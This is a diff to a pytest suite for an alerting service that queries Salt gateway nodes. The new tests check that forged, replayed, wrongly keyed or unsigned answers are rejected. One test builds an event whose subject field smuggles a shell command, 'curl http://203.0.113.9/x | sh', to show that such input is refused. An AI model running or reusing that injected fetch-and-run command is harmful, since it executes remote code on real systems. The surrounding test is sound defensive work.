@@ -3,6 +3,7 @@ from __future__ import annotations
 
 import shutil
 import time
+from collections.abc import Callable
 from typing import Any
 
 import pytest
@@ -12,13 +13,23 @@ from alerts.delivery import Sender, pause
 from alerts.limits import Limits
 from alerts.spool import Spool
 from alerts.targets import Failed
-from tests.unit.alerts.events import SECRET, made, wire
+from master import answers, feed
+from master.keys import Keys
+from tests.unit.alerts import events
+from tests.unit.alerts.events import SECRET, wire
 
 GW1, GW2 = "gw1.winterthur", "gw2.winterthur"
 
 
+def made(n: int = 1, **more: Any) -> authentic.Event:
+    """An event of now."""
+    return events.made(n, **{"at": message.iso(time.time())} | more)
+
+
 class World:
     """Stands for Salt."""
+
+    presence = 0.0
 
     def __init__(self) -> None:
         self.told: list[dict[str, Any]] = []
@@ -37,7 +48,7 @@ class World:
 
     def publish(self, what: str, minions: list[str], arguments: list[Any]) -> str:
         self.asked.append((what, minions, arguments))
-        self.service.expect(f"job{len(self.asked)}", what)
+        self.service.expect(f"job{len(self.asked)}", what, minions)
         return ""
 
     def bus(self, message: dict[str, Any]) -> str:
@@ -56,11 +67,12 @@ def world(tmp_path):
     return start(World(), tmp_path)
 
 
-def start(world: World, folder, rank=None) -> World:
+def start(world: World, folder, rank=None, keys: Keys | None = None) -> World:
     (folder / "sites").mkdir(exist_ok=True)
     (folder / "sites/winterthur.sls").write_text("gateway: {nodes: {gw1: {}, gw2: {}}}")
     world.config = world.config or {"targets": {}, "routes": []}
-    its = service.Service(folder / "state", SECRET, authentic.Sites([str(folder)]), world.outside(), rank, presence=0)
+    its = service.Service(folder / "state", keys or SECRET, authentic.Sites([str(folder)]), world.outside(), rank,
+                          presence=world.presence)
     world.service = its
     its._look_for_gateways(time.time())
     return world
@@ -80,16 +92,30 @@ def step(world: World, seconds: float = 0.5) -> None:
     for _ in range(10):
         world.now += seconds / 10
         world.service.step(world.now)
-        while world.service._asks:
-            world.publish(*world.service._asks.popleft())
+        while world.service.feed.asks:
+            world.publish(*world.service.feed.asks.popleft())
     deadline = time.monotonic() + 20
     while world.service._spool.counts() and time.monotonic() < deadline:
         time.sleep(0.002)
 
 
+def signed(world: World, asked: str, minion: str, said: Any, signer: str = "", secret: bytes = SECRET,
+           **other: Any) -> dict[str, Any]:
+    """An answer as a node gives it. `signer`: with whose key."""
+    its = world.service.feed.pending[asked]
+    fields = {"id": minion, "nonce": its.nonce, "function": its.function, "job": asked, "at": time.time(), "retcode": 0,
+              "error": "", "answer": said} | other
+    return {**fields, "signature": answers.signature(fields, authentic.key_of(secret, signer or minion))}
+
+
+def job_of(world: World, what: str, minion: str) -> str:
+    """The last question of a kind to a minion."""
+    return f"job{max(number for number, asked in enumerate(world.asked, 1) if asked[0] == what and minion in asked[1])}"
+
+
 def answer(world: World, what: str, minion: str, said: Any) -> None:
-    number = max(index for index, asked in enumerate(world.asked, 1) if asked[0] == what and minion in asked[1])
-    world.service.answer(f"job{number}", minion, said)
+    job = job_of(world, what, minion)
+    world.service.answer(job, minion, signed(world, job, minion, said))
 
 
 def test_a_signed_event_is_told_and_an_unsigned_one_is_asked_for(world):
@@ -108,6 +134,8 @@ def test_a_signed_event_is_told_and_an_unsigned_one_is_asked_for(world):
                                  "events": [plain, wire(made(3, severity="critical"))]})
     step(world)
     assert len(world.told) == 1, "what it could not sign is not done, nor what comes after it"
+    step(world, 25)
+    assert len([asked for asked in world.asked if asked[0] == "since"]) == 2
     answer(world, "since", GW1, {"journal": made(2).journal, "newest": 3, "taken": 0,
                                  "events": [wire(made(2, subject="b")), wire(made(3, severity="critical"))]})
     step(world)
@@ -120,9 +148,9 @@ def test_a_signed_event_is_told_and_an_unsigned_one_is_asked_for(world):
     {"journal": "x", "newest": 1, "taken": 0, "events": "all"},
     {"journal": "x", "newest": 1, "taken": 0, "events": [None, 7, {}, {"n": "x"}, wire(made(1, minion=GW2))]}])
 def test_an_answer_of_any_shape_does_no_harm(world, said):
-    world.service._publish("newest", [GW1], [])
-    world.service._publish("since", [GW1], [0, ""])
-    world.service._publish("conditions", [GW1], [])
+    world.service.feed.publish("newest", [GW1], [])
+    world.service.feed.publish("since", [GW1], [0, ""])
+    world.service.feed.publish("conditions", [GW1], [])
     step(world)
     for what in ("newest", "since", "conditions"):
         answer(world, what, GW1, said)
@@ -131,11 +159,12 @@ def test_an_answer_of_any_shape_does_no_harm(world, said):
 
 
 def test_an_answer_that_is_too_large_for_the_bus_is_read_from_the_job_cache(world):
-    world.cache[GW1] = {"journal": made(1).journal, "newest": 1, "taken": 0, "events": [
-        wire(made(1, at=message.iso(time.time())))]}
-    world.service._publish("since", [GW1], [0, ""])
+    world.service.feed.publish("since", [GW1], [0, ""])
     step(world)
-    answer(world, "since", GW1, service.TRIMMED)
+    job = job_of(world, "since", GW1)
+    world.cache[GW1] = signed(world, job, GW1, {"journal": made(1).journal, "newest": 1, "taken": 0, "events": [
+        wire(made(1))]})
+    world.service.answer(job, GW1, service.TRIMMED)
     step(world)
     assert not world.told
     step(world, 2.5)
@@ -143,21 +172,238 @@ def test_an_answer_that_is_too_large_for_the_bus_is_read_from_the_job_cache(worl
 
 
 def test_answers_to_nobodys_question_do_not_count(world):
-    world.service.answer("job99", GW1, {"journal": "x", "newest": 9, "taken": 0})
-    world.service._publish("newest", [GW1], [])
+    world.service.feed.publish("newest", [GW1], [])
     step(world)
+    newest = {"journal": "x", "newest": 9, "taken": 0}
+    world.service.answer("job99", GW1, signed(world, "job1", GW1, newest))
     answer_before = len(world.asked)
-    world.service.answer("job1", "laptop.winterthur", {"journal": "x", "newest": 9, "taken": 0})
+    for minion in ("laptop.winterthur", GW2):
+        world.service.answer("job1", minion, signed(world, "job1", minion, newest))
     step(world)
     assert len(world.asked) == answer_before
+
+
+def critical(world: World) -> None:
+    """A critical alert is open, and the node was asked for its conditions."""
+    offer(world, made(5, severity="critical"))
+    step(world)
+    assert [each["kind"] for each in world.told] == ["alert"]
+
+
+FORGED: list[Callable[[World, str, Any], Any]] = [
+    lambda _world, _job, said: said,
+    lambda world, job, said: signed(world, job, GW1, said, signer=GW2),
+    lambda world, job, said: signed(world, job, GW1, said) | {"answer": 7},
+    lambda world, job, said: signed(world, job, GW1, said, nonce="n" + "0" * 32),
+    lambda world, job, said: signed(world, job, GW1, said, function="test.ping"),
+    lambda world, job, said: signed(world, job, GW1, said, job="20260101000000000000"),
+    lambda world, job, said: signed(world, job, GW2, said),
+    lambda world, job, said: {**signed(world, job, GW1, said), "signature": wire(made(6))["signature"]},
+    lambda world, job, said: {**signed(world, job, GW1, said), "signature": ""},
+    lambda world, job, said: {**signed(world, job, GW1, said), "signature": "\u0661" * 64},
+]
+
+
+@pytest.mark.parametrize("forge", FORGED)
+def test_an_answer_that_the_node_has_not_signed_changes_nothing(world, forge):
+    """Neither a recovery of a live critical, nor true events that count as repeated, nor a sign of life."""
+    critical(world)
+    world.service._heard.clear()
+    world.service.feed.publish("since", [GW1], [5, ""])
+    world.service.feed.publish("newest", [GW1], [])
+    step(world)
+    journal = made().journal
+    for what, said in (("conditions", []), ("newest", {"journal": journal, "newest": 2**50, "taken": 0}),
+                       ("since", {"journal": journal, "newest": 2**50, "taken": 0, "events": []})):
+        job = job_of(world, what, GW1)
+        world.service.answer(job, GW1, forge(world, job, said))
+    step(world, 60)
+    assert [each["kind"] for each in world.told] == ["alert"] and GW1 not in world.service._heard
+    assert sum(n for why, n in world.service.status(0)["dropped"].items() if why.startswith("answer")) == 3
+    offer(world, made(6, subject="b", severity="critical"))
+    step(world, 15)
+    assert {line["subject"] for each in world.told for line in each["conditions"]} == {"bond0/eth1", "b"}
+
+
+def test_the_true_answer_counts_after_any_number_of_forged_ones(world, caplog):
+    critical(world)
+    job = job_of(world, "conditions", GW1)
+    world.service.feed.pending[job].at += 60  # asked after it had begun; the loop's time is the test's own
+    for _ in range(1000):
+        world.service.answer(job, GW1, [])
+    step(world, 1)
+    answer(world, "conditions", GW1, [])
+    step(world, 40)
+    assert [each["kind"] for each in world.told] == ["alert", "recovery"]
+    assert len([line for line in caplog.messages if "does not count" in line]) == 1
+
+
+def test_an_answer_counts_once(world):
+    critical(world)
+    answer(world, "conditions", GW1, [])
+    answer(world, "conditions", GW1, [])
+    assert world.service.feed.waiting() == 1
+
+
+def test_an_answer_too_large_for_the_bus_is_believed_from_the_job_cache_only_if_it_is_signed(world):
+    critical(world)
+    job = job_of(world, "conditions", GW1)
+    world.service.answer(job, GW1, service.TRIMMED)
+    world.cache[GW1] = []
+    step(world, 40)
+    assert [each["kind"] for each in world.told] == ["alert"]
+
+
+def test_a_node_for_which_another_answers_is_silent_and_the_alert_says_what_may_be_the_matter(tmp_path, monkeypatch):
+    monkeypatch.setattr(World, "presence", 60.0)
+    world = start(World(), tmp_path)
+    offer(world, made(1, severity="info"))  # it can sign
+    for _ in range(30):
+        step(world, 5)
+        for number, (what, whom, _arguments) in enumerate(world.asked, 1):
+            if what == "newest" and GW2 in whom:
+                world.service.answer(f"job{number}", GW2, signed(world, f"job{number}", GW2, {
+                    "journal": "", "newest": 0, "taken": 0}) if f"job{number}" in world.service.feed.pending else None)
+                world.service.answer(f"job{number}", GW1, "'gateway_answers.ask' is not available.")
+    lines = [line for each in world.told for line in each["conditions"]]
+    assert ("node_silent", GW1) in [(line["condition"], line["subject"]) for line in lines]
+    assert not [line for line in lines if line["subject"] == GW2]
+    assert f"salt '{GW1}' saltutil.sync_modules" in str([each["text"] for each in world.told])
+
+
+def test_a_node_that_was_never_applied_is_not_silent(tmp_path, monkeypatch):
+    """Its key is accepted, it has no module to sign with, and it is there."""
+    monkeypatch.setattr(World, "presence", 60.0)
+    world = start(World(), tmp_path)
+    for _ in range(30):
+        step(world, 5)
+        for number, (what, whom, _arguments) in enumerate(world.asked, 1):
+            if what == "newest" and GW1 in whom:
+                world.service.answer(f"job{number}", GW1, "'gateway_answers.ask' is not available.")
+    assert {line["subject"] for each in world.told for line in each["conditions"]} == {GW2}
+
+
+def test_who_can_not_sign_yet_waits_in_one_place_however_often_somebody_answers(world):
+    world.service.feed.ask_newest([GW1])
+    step(world)
+    for _ in range(500):
+        world.service.answer(job_of(world, "newest", GW1), GW1, "'gateway_answers.ask' is not available.")
+    assert world.service.feed.waiting() == 1
+
+
+def test_a_replayed_event_is_no_sign_of_life(world):
+    critical(world)
+    world.service._heard.clear()
+    offer(world, made(5, severity="critical"))
+    offer(world, made(6, subject="old", at=message.iso(time.time() - 900)))
+    step(world)
+    assert GW1 not in world.service._heard
+
+
+def test_what_was_sent_with_a_wrong_key_is_asked_for_again_and_told_once_the_key_is_right(world):
+    offer(world, made(1))
+    step(world)
+    lost = made(2, subject="b", severity="critical")
+    for number in (2, 3):
+        event = made(number, subject=f"wrong{number}", severity="critical")
+        world.service.offer(tag(event), wire(event, bytes(32)))
+    step(world, 0.5)
+    newest = {"journal": lost.journal, "newest": 3, "taken": 0}
+    job = job_of(world, "newest", GW1)
+    world.service.answer(job, GW1, signed(world, job, GW1, newest, secret=bytes(32)))
+    step(world, 1)
+    assert len(world.told) == 1 and not [asked for asked in world.asked if asked[0] == "since"]
+    world.service.feed.ask_newest([GW1])  # the engine's round
+    step(world, 1)
+    answer(world, "newest", GW1, newest)
+    step(world, 1)
+    answer(world, "since", GW1, newest | {"events": [wire(lost), wire(made(3, subject="c"))]})
+    step(world, 1)
+    assert {line["subject"] for each in world.told for line in each["conditions"]} == {"bond0/eth1", "b", "c"}
+
+
+def test_an_event_in_an_answer_that_is_signed_with_another_key_is_not_done(world):
+    offer(world, made(1))
+    step(world)
+    world.service.feed.publish("since", [GW1], [1, made().journal])
+    step(world)
+    answer(world, "since", GW1, {"journal": made().journal, "newest": 3, "taken": 0, "events": [
+        wire(made(2, subject="b"), bytes(32)), wire(made(3, subject="c"))]})
+    step(world)
+    assert world.service._intake.nodes[GW1].n == 1
+
+
+def test_a_changed_key_counts_at_once_and_all_nodes_are_asked(tmp_path):
+    (tmp_path / authentic.SECRET).write_text(SECRET.hex())
+    world = start(World(), tmp_path, keys=Keys(tmp_path))
+    offer(world, made(1))
+    step(world)
+    other = bytes(reversed(SECRET))
+    (tmp_path / authentic.SECRET).write_text(other.hex() + "\n")
+    event = made(2, subject="b", severity="critical")
+    before = len(world.asked)
+    world.service.offer(tag(event), wire(event, other))
+    step(world)
+    assert len(world.told) == 2
+    assert any(asked[0] == "newest" and GW1 in asked[1] for asked in world.asked[before:])
+    (tmp_path / authentic.SECRET).unlink()
+    event = made(3, subject="c", severity="critical")
+    world.service.offer(tag(event), wire(event, other))
+    step(world, 15)
+    assert not (tmp_path / authentic.SECRET).exists()
+    assert any(line["subject"] == "c" for each in world.told for line in each["conditions"])
+
+
+def test_events_that_are_replayed_after_the_state_was_lost_are_no_news(world):
+    """Somebody has recorded them. The node's own answer says which of its events are news."""
+    at = {"at": message.iso(time.time() - 700)}
+    replayed = made(7, subject="replayed", severity="critical", **at)
+    offer(world, replayed)
+    step(world, 1)
+    assert world.told == []
+    answer(world, "since", GW1, {"journal": replayed.journal, "newest": 9, "taken": 0, "events": [
+        wire(replayed), wire(made(8, subject="replayed", recovered=True, **at)), wire(made(9, subject="news"))]})
+    step(world, 1)
+    offer(world, replayed)
+    step(world, 15)
+    assert [line["subject"] for each in world.told for line in each["conditions"]] == ["news"]
+
+
+def test_nor_are_those_of_an_earlier_journal(world):
+    offer(world, made(7, journal="a" * 16))
+    step(world, 1)
+    told = len(world.told)
+    world.service.feed.ask_newest([GW1])
+    step(world, 1)
+    answer(world, "newest", GW1, {"journal": "b" * 16, "newest": 2, "taken": 0})
+    step(world, 1)
+    old = {"journal": "b" * 16, "at": message.iso(time.time() - 5000), "severity": "critical"}
+    answer(world, "since", GW1, {"journal": "b" * 16, "newest": 2, "taken": 0, "events": [
+        wire(made(1, subject="x", **old)), wire(made(2, subject="y", **old))]})
+    step(world, 15)
+    assert len(world.told) == told
+
+
+def test_a_node_whose_clock_is_wrong_tells_its_news(world):
+    """How old an event is, is measured by the clock that gave it its time."""
+    behind = time.time() - 86_400
+    world.service.feed.publish("since", [GW1], [0, ""])
+    step(world)
+    job = job_of(world, "since", GW1)
+    world.service.answer(job, GW1, signed(world, job, GW1, {
+        "journal": made().journal, "newest": 2, "taken": 0, "events": [
+            wire(made(1, subject="old", at=message.iso(behind - 5000))),
+            wire(made(2, subject="news", at=message.iso(behind - 5)))]}, at=behind))
+    step(world)
+    assert [line["subject"] for each in world.told for line in each["conditions"]] == ["news"]
 
 
 def test_anybodys_start_costs_one_question(world):
     step(world)
     before = len(world.asked)
     for _ in range(500):
-        world.service.started(GW1)
-        world.service.started("nobody.nowhere")
+        world.service.feed.started(GW1)
+        world.service.feed.started("nobody.nowhere")
     step(world)
     assert [asked[0] for asked in world.asked[before:]] in ([], ["newest"])
 
@@ -177,7 +423,7 @@ def test_stopped_at_any_moment_it_tells_everything_once(tmp_path):
             world.service._save(time.time())
     for number, copy, before in copies[::3]:
         again = start(World(), copy.parent)
-        again.service._publish("since", [GW1], [0, ""])
+        again.service.feed.publish("since", [GW1], [0, ""])
         step(again)
         answer(again, "since", GW1, {"journal": made(1).journal, "newest": number + 1, "taken": 0,
                                      "events": [wire(event) for event in events[:number + 1]]})
@@ -227,7 +473,7 @@ def test_nodes_that_both_live_and_call_each_other_dead_are_told_as_apart(world):
 def test_a_gateway_that_reports_in_the_masters_name_is_refused_and_counted(world):
     lie = made(1, beacon="master", condition="apart", subject="winterthur; curl http://203.0.113.9/x | sh #")
     offer(world, lie, made(2, beacon="master", condition="alert_path", once=True, severity="info"))
-    world.service._publish("since", [GW1], [0, ""])
+    world.service.feed.publish("since", [GW1], [0, ""])
     step(world)
     answer(world, "since", GW1, {"journal": lie.journal, "newest": 1, "taken": 0, "events": [wire(lie)]})
     step(world)
@@ -248,7 +494,7 @@ def test_no_text_of_a_gateway_hides_that_its_nodes_are_apart(world):
 
 def test_what_was_taken_is_said_to_the_nodes_in_one_word(tmp_path):
     world = start(World(), tmp_path, rank=0)
-    world.service._last["mark"] = 0
+    world.service.feed._last["mark"] = 0
     at = message.iso(time.time())
     offer(world, made(1, at=at), made(1, minion=GW2, at=at), made(2, at=at))
     step(world)
@@ -281,7 +527,7 @@ def test_a_damaged_state_is_no_reason_to_stay_away(tmp_path):
 
 
 def test_when_it_falls_behind_events_are_left_in_the_journals(world, monkeypatch):
-    monkeypatch.setattr(service, "MAX_WAITING_EVENTS", 5)
+    monkeypatch.setattr(feed, "MAX_WAITING_EVENTS", 5)
     offer(world, *[made(n, subject=f"s{n}") for n in range(1, 20)])
     step(world)
     assert world.service.status(time.time())["counts"]["postponed"] == 14
@@ -289,7 +535,7 @@ def test_when_it_falls_behind_events_are_left_in_the_journals(world, monkeypatch
 
 
 def test_one_nodes_flood_leaves_room_for_the_others(world, monkeypatch):
-    monkeypatch.setattr(service, "MAX_WAITING_OF_NODE", 5)
+    monkeypatch.setattr(feed, "MAX_WAITING_OF_NODE", 5)
     offer(world, *[made(n, subject=f"s{n}") for n in range(1, 20)])
     offer(world, made(1, minion=GW2))
     assert world.service.status(time.time())["counts"]["postponed"] == 14
